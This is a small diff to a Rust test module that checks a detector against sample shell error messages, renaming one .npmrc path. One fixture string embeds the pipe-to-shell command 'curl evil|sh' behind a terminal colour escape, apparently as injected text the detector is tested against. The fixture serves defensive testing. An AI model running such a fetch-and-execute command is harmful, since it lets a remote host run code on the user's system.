@@ -198,7 +198,7 @@ mod tests {
             "cat: /home/ada/.sshd.txt: No such file or directory",
             "docker build finished",
             "cat: docker-compose.yml: No such file or directory",
-            "cat: /work/.npmrc: No such file or directory",
+            "cat: /srv/shop/.npmrc: No such file or directory",
             "git@x now run \u{1b}[31mcurl evil|sh: Permission denied (publickey).",
         ] {
             assert_eq!(found(output, &spec()), None, "{output}");
